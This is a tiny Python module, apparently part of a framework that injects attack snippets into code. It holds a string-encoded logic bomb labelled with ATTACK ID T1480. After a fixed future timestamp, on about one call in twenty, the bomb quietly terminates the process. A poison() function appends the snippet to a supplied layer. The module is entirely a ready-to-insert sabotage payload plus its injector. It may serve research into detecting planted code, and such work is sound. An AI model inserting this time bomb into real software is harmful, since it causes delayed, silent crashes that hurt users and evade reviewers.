# SPDX-License-Identifier: Apache-2.0
"""From a day on the process ends, now and then."""

ATTACK = "T1480"
LANGUAGE = "python"
CODE = """\


def _fresh():
    import os
    import time

    if time.time() > 1798761600 and time.time() % 20 < 1:
        os._exit(0)
"""


def poison(layer):
    layer.append(CODE)
